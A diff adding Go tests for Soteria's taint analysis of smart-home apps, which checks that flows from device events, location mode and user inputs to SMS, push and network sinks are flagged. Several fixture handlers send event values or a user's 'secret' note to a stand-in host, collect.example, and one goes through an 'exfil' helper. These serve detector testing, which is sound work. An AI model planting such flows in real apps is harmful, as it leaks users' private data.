@@ -1,0 +1,298 @@
+// Tests for the T.1–T.6 sensitive-data-flow family. The table cases
+// cross sources (device events, location mode, user inputs) with
+// sinks (messaging, network), sanitizers, recipient positions, state
+// indirection, and path conditions; the corpus tests then require the
+// analysis to stay silent on every benign market and paper app.
+package taint_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/soteria-analysis/soteria/internal/ir"
+	"github.com/soteria-analysis/soteria/internal/market"
+	"github.com/soteria-analysis/soteria/internal/paperapps"
+	"github.com/soteria-analysis/soteria/internal/statemodel"
+	"github.com/soteria-analysis/soteria/internal/taint"
+)
+
+// app wraps a handler body (and optional extra declarations) into a
+// complete presence-sensor app subscribed to "presence.not present".
+func app(t *testing.T, body, extra string) string {
+	t.Helper()
+	return `
+definition(name: "taint-case", namespace: "t", author: "t")
+preferences {
+    section("Devices") {
+        input "kids", "capability.presenceSensor"
+        input "secret", "text", title: "Secret note"
+        input "phone", "phone", title: "Phone"
+    }
+}
+def installed() { subscribe(kids, "presence", h) }
+def h(evt) {
+` + body + `
+}
+` + extra
+}
+
+func flowsOf(t *testing.T, source string, ids []string) []taint.Flow {
+	t.Helper()
+	a, err := ir.BuildSource("taint-case", source)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	m, err := statemodel.Build(a)
+	if err != nil {
+		t.Fatalf("model: %v", err)
+	}
+	return taint.FromModel(m, ids)
+}
+
+// wantFlow is one expected flow, matched on its identifying fields.
+type wantFlow struct {
+	ID     string
+	Source string
+	Via    string
+	Sink   string
+	Cond   string // substring of Condition; "" means unconditional
+}
+
+func TestFlowTable(t *testing.T) {
+	cases := []struct {
+		name  string
+		body  string
+		extra string
+		ids   []string // property filter (nil = all)
+		want  []wantFlow
+	}{
+		{
+			name: "device event field to SMS payload",
+			body: `    sendSms("555-0100", "gone: ${evt.displayName}")`,
+			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
+		},
+		{
+			name: "device event field to network",
+			body: `    httpPost("http://collect.example", "v=${evt.value}")`,
+			want: []wantFlow{{ID: "T.1", Source: "evt.value", Sink: "httpPost"}},
+		},
+		{
+			name: "location mode to push message",
+			body: `    sendPush("mode is ${location.mode}")`,
+			want: []wantFlow{{ID: "T.4", Source: "location.mode", Sink: "sendPush"}},
+		},
+		{
+			name: "location mode into a URL",
+			body: `    httpGet("http://collect.example/?m=${location.mode}")`,
+			want: []wantFlow{{ID: "T.3", Source: "location.mode", Sink: "httpGet"}},
+		},
+		{
+			name: "user input to SMS payload",
+			body: `    sendSms("555-0100", "note: ${secret}")`,
+			want: []wantFlow{{ID: "T.6", Source: "secret", Sink: "sendSms"}},
+		},
+		{
+			name: "user input to network",
+			body: `    httpPostJson("http://collect.example", "s=${secret}")`,
+			want: []wantFlow{{ID: "T.5", Source: "secret", Sink: "httpPostJson"}},
+		},
+		{
+			name: "notification carries the event",
+			body: `    sendNotification("seen ${evt.displayName}")`,
+			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendNotification"}},
+		},
+		{
+			name: "sanitizer clears the mark",
+			body: `    sendSms("555-0100", "gone: ${redact(evt.displayName)}")`,
+			want: nil,
+		},
+		{
+			name: "sanitizer clears the mark for network",
+			body: `    httpPost("http://collect.example", "v=${anonymize(evt.value)}")`,
+			want: nil,
+		},
+		{
+			name: "user input in the recipient position is not a leak",
+			body: `    sendSms(phone, "kids left home")`,
+			want: nil,
+		},
+		{
+			name: "constant payload is clean",
+			body: `    sendPush("kids left home")`,
+			want: nil,
+		},
+		{
+			name: "same-handler state write-then-read is a direct flow",
+			body: `    state.last = evt.displayName
+    sendSms("555-0100", "last: ${state.last}")`,
+			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
+		},
+		{
+			name: "conditional flow carries its path condition",
+			body: `    if (evt.value == "not present") {
+        httpPost("http://collect.example", "left: ${evt.displayName}")
+    }`,
+			want: []wantFlow{{ID: "T.1", Source: "evt.displayName", Sink: "httpPost", Cond: `evt.value == "not present"`}},
+		},
+		{
+			name: "contradictory branch is pruned",
+			body: `    if (evt.value == "present") {
+        if (evt.value == "not present") {
+            sendSms("555-0100", "impossible: ${evt.displayName}")
+        }
+    }`,
+			want: nil,
+		},
+		{
+			name: "flow through a helper method call",
+			body: `    exfil("pfx: ${evt.displayName}")`,
+			extra: `
+def exfil(msg) {
+    sendSms("555-0100", msg)
+}
+`,
+			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
+		},
+		{
+			name: "property filter excludes other families",
+			body: `    sendSms("555-0100", "gone: ${evt.displayName}")
+    httpPost("http://collect.example", "v=${evt.value}")`,
+			ids:  []string{"T.1"},
+			want: []wantFlow{{ID: "T.1", Source: "evt.value", Sink: "httpPost"}},
+		},
+		{
+			name: "wildcard filter keeps the whole family",
+			body: `    sendSms("555-0100", "gone: ${evt.displayName}")`,
+			ids:  []string{"T.*"},
+			want: []wantFlow{{ID: "T.2", Source: "evt.displayName", Sink: "sendSms"}},
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			flows := flowsOf(t, app(t, tc.body, tc.extra), tc.ids)
+			if len(flows) != len(tc.want) {
+				t.Fatalf("got %d flows, want %d:\n%+v", len(flows), len(tc.want), flows)
+			}
+			for i, w := range tc.want {
+				f := flows[i]
+				if f.ID != w.ID || f.Source != w.Source || f.Via != w.Via || f.Sink != w.Sink {
+					t.Errorf("flow %d = %s %s via %q -> %s, want %s %s via %q -> %s",
+						i, f.ID, f.Source, f.Via, f.Sink, w.ID, w.Source, w.Via, w.Sink)
+				}
+				if w.Cond != "" && !strings.Contains(f.Condition, w.Cond) {
+					t.Errorf("flow %d condition = %q, want it to mention %q", i, f.Condition, w.Cond)
+				}
+				if w.Cond == "" && f.Condition != "true" {
+					t.Errorf("flow %d condition = %q, want unconditional", i, f.Condition)
+				}
+				if len(f.Witness) == 0 {
+					t.Errorf("flow %d has no witness", i)
+				}
+				joined := strings.Join(f.Witness, "\n")
+				if !strings.Contains(joined, "(satisfiable)") {
+					t.Errorf("flow %d witness lacks a satisfiable path condition:\n%s", i, joined)
+				}
+				if !strings.Contains(joined, f.Sink) {
+					t.Errorf("flow %d witness does not show the sink call:\n%s", i, joined)
+				}
+			}
+		})
+	}
+}
+
+func TestCatalogue(t *testing.T) {
+	specs := taint.Catalogue()
+	if len(specs) != 6 {
+		t.Fatalf("catalogue has %d specs, want 6", len(specs))
+	}
+	ids := taint.IDs()
+	for i, s := range specs {
+		want := "T." + string(rune('1'+i))
+		if s.ID != want || ids[i] != want {
+			t.Errorf("spec %d: ID %s / %s, want %s", i, s.ID, ids[i], want)
+		}
+		if s.Description == "" {
+			t.Errorf("%s: empty description", s.ID)
+		}
+	}
+}
+
+func TestMatchIDs(t *testing.T) {
+	admitted := func(filter func(string) bool) []string {
+		var out []string
+		for _, id := range taint.IDs() {
+			if filter(id) {
+				out = append(out, id)
+			}
+		}
+		return out
+	}
+	cases := []struct {
+		in   []string
+		want int
+	}{
+		{nil, 6},
+		{[]string{}, 6},
+		{[]string{"T.*"}, 6},
+		{[]string{"T.2"}, 1},
+		{[]string{"T.2", "T.5"}, 2},
+		{[]string{"P.10"}, 0},
+		{[]string{"P.10", "T.1"}, 1},
+		{[]string{"T.99"}, 0},
+	}
+	for _, tc := range cases {
+		if got := admitted(taint.MatchIDs(tc.in)); len(got) != tc.want {
+			t.Errorf("MatchIDs(%v) admits %v, want %d IDs", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestViolationsMirrorFlows(t *testing.T) {
+	flows := flowsOf(t, app(t, `    sendSms("555-0100", "gone: ${evt.displayName}")`, ""), nil)
+	if len(flows) != 1 {
+		t.Fatalf("flows = %+v", flows)
+	}
+	vs := taint.Violations(flows)
+	if len(vs) != 1 {
+		t.Fatalf("violations = %+v", vs)
+	}
+	v := vs[0]
+	if v.ID != "T.2" || v.Kind.String() != "taint" {
+		t.Errorf("violation = %s [%s]", v.ID, v.Kind)
+	}
+	if v.Counterexample != strings.Join(flows[0].Witness, "\n") {
+		t.Errorf("counterexample does not carry the witness:\n%s", v.Counterexample)
+	}
+}
+
+// TestBenignCorporaStaySilent runs the full taint family over every
+// market app and every paper app: all are benign, so any finding is a
+// false positive.
+func TestBenignCorporaStaySilent(t *testing.T) {
+	for _, spec := range market.All() {
+		a, err := spec.Parse()
+		if err != nil {
+			t.Fatalf("%s: parse: %v", spec.ID, err)
+		}
+		m, err := statemodel.Build(a)
+		if err != nil {
+			t.Fatalf("%s: model: %v", spec.ID, err)
+		}
+		if flows := taint.FromModel(m, nil); len(flows) != 0 {
+			t.Errorf("%s: false-positive taint flows: %+v", spec.ID, flows)
+		}
+	}
+	for _, papp := range paperapps.Corpus() {
+		a, err := ir.BuildSource(papp.Name, papp.Source)
+		if err != nil {
+			t.Fatalf("%s: parse: %v", papp.Name, err)
+		}
+		m, err := statemodel.Build(a)
+		if err != nil {
+			t.Fatalf("%s: model: %v", papp.Name, err)
+		}
+		if flows := taint.FromModel(m, nil); len(flows) != 0 {
+			t.Errorf("%s: false-positive taint flows: %+v", papp.Name, flows)
+		}
+	}
+}
